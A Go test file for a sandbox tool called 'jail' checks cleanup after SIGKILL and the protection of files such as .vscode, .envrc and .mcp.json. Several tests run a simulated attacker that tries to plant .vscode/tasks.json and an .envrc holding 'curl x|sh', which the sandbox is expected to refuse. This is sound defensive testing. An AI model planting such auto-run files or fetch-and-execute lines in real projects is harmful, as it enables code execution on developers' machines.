package main

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestSIGKILLLeavesNothing kills jail (the process its caller started) with SIGKILL at random
// moments of its life, with the egress proxy, twenty times, in a repository: afterwards no file
// or directory of it is left in $TMPDIR, no process of it runs, no mount of it is on the host,
// and once the next run in the repository has ended the tree is as it was (the placeholders a
// killed run left are that run's to remove). The proxy's socket was a file in $TMPDIR, left
// behind by 19 runs in 20.
func TestSIGKILLLeavesNothing(t *testing.T) {
	tmp := t.TempDir()
	dir, _ := project(t)
	before := hostView(t, dir)
	marker := fmt.Sprintf("30.%d%06d", os.Getpid()%1000, time.Now().UnixNano()%1000000)
	for i := range 20 {
		cmd := exec.Command(jailBin, "--allow-host", "example.com", "--", "sleep", marker)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "TMPDIR="+tmp)
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		time.Sleep(time.Duration(rand.IntN(30_000)) * time.Microsecond) // setup takes ~10 ms
		cmd.Process.Signal(syscall.SIGKILL)
		if err := cmd.Wait(); err == nil {
			t.Fatalf("run %d: jail was not killed", i)
		}
	}
	if left := leftoverProcesses(marker); len(left) > 0 {
		t.Errorf("processes left: %q", left)
	}
	if entries, _ := os.ReadDir(tmp); len(entries) > 0 {
		t.Errorf("left in $TMPDIR: %v", entries)
	}
	mounts, _ := os.ReadFile("/proc/self/mountinfo")
	for _, p := range []string{tmp, dir} {
		if strings.Contains(string(mounts), p) {
			t.Errorf("a mount on the host under %s:\n%s", p, mounts)
		}
	}
	if _, errOut, code := runJailIn(t, dir, "", "--", "true"); code != 0 {
		t.Fatalf("the next run: exit %d, %s", code, errOut)
	}
	if after := hostView(t, dir); after != before {
		t.Errorf("after the next run, the tree is not as it was:\n%s\nwas:\n%s", after, before)
	}
}

// leftoverProcesses lists the processes whose command line holds marker, once those that are
// dying (a SIGKILLed jail's host and init follow it within moments) are gone; it gives them up
// to hangTimeout. A process seen once stays listed until it is a zombie or gone: an exiting
// process's command line reads empty before its descriptors close, and a jail's host or waiter
// still holds the placeholders' lock then (the next run would leave them to it).
func leftoverProcesses(marker string) []string {
	var left []string
	seen := map[string]bool{}
	for deadline := time.Now().Add(hangTimeout); time.Now().Before(deadline); {
		left = nil
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			if _, err := strconv.Atoi(e.Name()); err != nil {
				continue
			}
			b, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
			if strings.Contains(string(b), marker) {
				seen[e.Name()] = true
			}
			if pid, _ := strconv.Atoi(e.Name()); seen[e.Name()] && !zombie(pid) {
				left = append(left, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
			}
		}
		if len(left) == 0 {
			return nil
		}
		time.Sleep(100 * time.Millisecond)
	}
	return left
}

// hostView is what the host shows of dir: `git status --porcelain --ignored`, and every path
// beneath it with its kind.
func hostView(t *testing.T, dir string) string {
	t.Helper()
	cmd := exec.Command("git", "status", "--porcelain", "--ignored")
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git status: %v: %s", err, out)
	}
	var b strings.Builder
	b.Write(out)
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && p != dir {
			fmt.Fprintf(&b, "%s %v\n", strings.TrimPrefix(p, dir), d.Type())
		}
		return nil
	})
	return b.String()
}

// TestPlaceholdersLeaveNoTrace: a run of the agent profile in a repository that has none of the
// protected files leaves the tree exactly as it found it, and the host can create those files
// afterwards. jail left nine empty placeholder directories behind, and `echo {} > .mcp.json`
// failed with "Is a directory".
func TestPlaceholdersLeaveNoTrace(t *testing.T) {
	proj, _ := project(t)
	before := hostView(t, proj)
	out, errOut, code := runJailIn(t, proj, "", "--", "sh", "-c", "test -S .vscode && test -S .mcp.json && echo masked")
	if code != 0 || out != "masked\n" {
		t.Fatalf("inside: %q (exit %d, %s); want the missing protected paths masked", out, code, errOut)
	}
	if after := hostView(t, proj); after != before {
		t.Errorf("the tree changed:\n%s\nwas:\n%s", after, before)
	}
	if err := os.WriteFile(filepath.Join(proj, ".mcp.json"), []byte("{}\n"), 0o644); err != nil {
		t.Errorf("the host cannot create .mcp.json after a run: %v", err)
	}
}

// TestPlaceholdersRefusedEndTheRun: when the host cannot make the placeholders (here its state
// directory, where their records go, is open to others), the run ends with that one error and
// 125, the command never runs and the tree is as it was, although the plan went to init before
// the host tried: init, building the root meanwhile, waits for them at the first protection.
func TestPlaceholdersRefusedEndTheRun(t *testing.T) {
	proj, _ := project(t)
	before := hostView(t, proj)
	state := t.TempDir()
	if err := os.Chmod(state, 0o755); err != nil {
		t.Fatal(err)
	}
	out, errOut, code := runJailWith(t, runOpts{dir: proj, env: []string{"JAIL_RUNTIME_DIR=" + state}}, "--", "sh", "-c", "touch ran; echo ran")
	if code != exitFailure || out != "" || !strings.HasPrefix(errOut, "jail: protect: placeholders: state directory ") ||
		strings.Count(errOut, "\n") != 1 {
		t.Fatalf("exit %d, stdout %q, stderr %q; want 125 and the placeholders' error alone", code, out, errOut)
	}
	if after := hostView(t, proj); after != before {
		t.Errorf("the tree changed:\n%s\nwas:\n%s", after, before)
	}
}

// TestPlaceholdersSharedByTwoSandboxes: two sandboxes in one directory, one ending while the
// other runs, in either order. The first to end leaves the placeholders the other's protections
// sit on (it keeps trying to plant .vscode/tasks.json and .envrc, and fails), and once the last
// has ended the tree is as it was.
func TestPlaceholdersSharedByTwoSandboxes(t *testing.T) {
	for _, longFirst := range []bool{true, false} {
		t.Run(fmt.Sprint("long-running first: ", longFirst), func(t *testing.T) {
			proj, _ := project(t)
			before := hostView(t, proj)
			long := startLongSandbox(t, proj)
			if !longFirst {
				// The short run starts first and is still setting up when the long one starts.
				_, errOut, code := runJailIn(t, proj, "", "--", "true")
				if code != 0 {
					t.Fatalf("short run: exit %d, %s", code, errOut)
				}
			} else if _, errOut, code := runJailIn(t, proj, "", "--", "true"); code != 0 {
				t.Fatalf("short run: exit %d, %s", code, errOut)
			}
			for _, p := range []string{".vscode", ".envrc", ".mcp.json"} {
				if _, err := os.Lstat(filepath.Join(proj, p)); err != nil {
					t.Errorf("%s: %v: removed while the other sandbox's protection sat on it", p, err)
				}
			}
			if got := long.finish(t); got != "refused\n" {
				t.Errorf("the long-running sandbox, after the short one ended: %q", got)
			}
			if _, err := os.Stat(filepath.Join(proj, ".vscode", "tasks.json")); err == nil {
				t.Error(".vscode/tasks.json was planted")
			}
			if after := hostView(t, proj); after != before {
				t.Errorf("the tree changed:\n%s\nwas:\n%s", after, before)
			}
		})
	}
}

// longSandbox is a jail run that waits for a line on its stdin, then tries to plant files at
// protected names and prints "refused" when every attempt failed.
type longSandbox struct {
	cmd  *exec.Cmd
	in   io.WriteCloser
	out  *bufio.Reader
	errb *strings.Builder
}

// startLongSandbox starts one in dir and returns once its command runs.
func startLongSandbox(t *testing.T, dir string) *longSandbox {
	t.Helper()
	attack := `echo ready; read go
for i in 1 2 3; do
  mkdir -p .vscode 2>/dev/null; echo '{}' 2>/dev/null >.vscode/tasks.json && { echo planted; exit 1; }
  echo 'curl x|sh' 2>/dev/null >.envrc && { echo planted; exit 1; }
done
echo refused`
	l := &longSandbox{cmd: exec.Command(jailBin, "--", "sh", "-c", attack), errb: &strings.Builder{}}
	l.cmd.Dir, l.cmd.Stderr = dir, l.errb
	in, err := l.cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := l.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := l.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	l.in, l.out = in, bufio.NewReader(out)
	t.Cleanup(func() { l.cmd.Process.Kill(); l.cmd.Wait() })
	if line, err := l.out.ReadString('\n'); line != "ready\n" {
		t.Fatalf("long-running sandbox: %q %v; stderr %s", line, err, l.errb)
	}
	return l
}

// finish lets it attack and returns what it printed then, once it has ended.
func (l *longSandbox) finish(t *testing.T) string {
	t.Helper()
	io.WriteString(l.in, "go\n")
	l.in.Close()
	rest, _ := io.ReadAll(l.out)
	if err := l.cmd.Wait(); err != nil && !strings.Contains(string(rest), "planted") {
		t.Errorf("long-running sandbox: %v; stderr %s", err, l.errb)
	}
	return string(rest)
}

// TestPlaceholdersUnderConcurrentRuns: rounds of three runs started together in one directory,
// each checking that its protections hold (the placeholders exist and are read-only inside):
// whichever ends last removes them, and none ever finds one missing or writable.
func TestPlaceholdersUnderConcurrentRuns(t *testing.T) {
	proj, _ := project(t)
	before := hostView(t, proj)
	check := `test -S .vscode && test -S .mcp.json && ! mkdir .vscode/x 2>/dev/null && ! touch .gitmodules/x 2>/dev/null`
	for round := range 8 {
		errs := make(chan string, 3)
		for range 3 {
			go func() {
				cmd := exec.Command(jailBin, "--", "sh", "-c", check)
				cmd.Dir = proj
				out, err := cmd.CombinedOutput()
				if err != nil {
					errs <- fmt.Sprintf("round %d: %v: %s", round, err, out)
					return
				}
				errs <- ""
			}()
		}
		for range 3 {
			if e := <-errs; e != "" {
				t.Error(e)
			}
		}
	}
	if after := hostView(t, proj); after != before {
		t.Errorf("the tree changed:\n%s\nwas:\n%s", after, before)
	}
}

// TestPlaceholdersOutliveWhatTheCommandLeft: the command leaves processes in the background (in
// sessions of their own) that keep trying to plant .envrc and .vscode/tasks.json, and exits. pid
// 1 kills them before it says the sandbox is empty, and the waiter removes the placeholders only
// after: none of them may find a name bare (placeholders removed before pid 1 had killed them
// failed this). Afterwards the tree is as it was. The same loops plant both files outside jail.
func TestPlaceholdersOutliveWhatTheCommandLeft(t *testing.T) {
	plant := `while :; do echo x >.envrc; mkdir -p .vscode && echo x >.vscode/tasks.json; done 2>/dev/null`
	// The command exits once both loops run.
	script := `for i in 1 2; do setsid sh -c "$1" </dev/null >/dev/null 2>&1 & done
		for i in $(seq 1000); do [ "$(pgrep -c -f '^sh -c while :')" -ge 2 ] && break; sleep 0.01; done; exit 0`
	bare := t.TempDir()
	cmd := exec.Command("sh", "-c", `sh -c "$1" & for i in $(seq 1000); do [ -e .envrc ] && [ -e .vscode/tasks.json ] && break; sleep 0.01; done; kill $!`, "sh", plant)
	cmd.Dir = bare
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("without jail: %v: %s", err, out)
	}
	for _, p := range []string{".envrc", ".vscode/tasks.json"} {
		if _, err := os.Lstat(filepath.Join(bare, p)); err != nil {
			t.Fatalf("without jail the loops planted no %s (%v): the test would prove nothing", p, err)
		}
	}
	proj, _ := project(t)
	before := hostView(t, proj)
	for i := range 5 {
		if _, errOut, code := runJailIn(t, proj, "", "--", "sh", "-c", script, "sh", plant); code != 0 {
			t.Fatalf("run %d: exit %d: %s", i, code, errOut)
		}
		if after := hostView(t, proj); after != before {
			t.Fatalf("run %d: the tree changed:\n%s\nwas:\n%s", i, after, before)
		}
	}
}
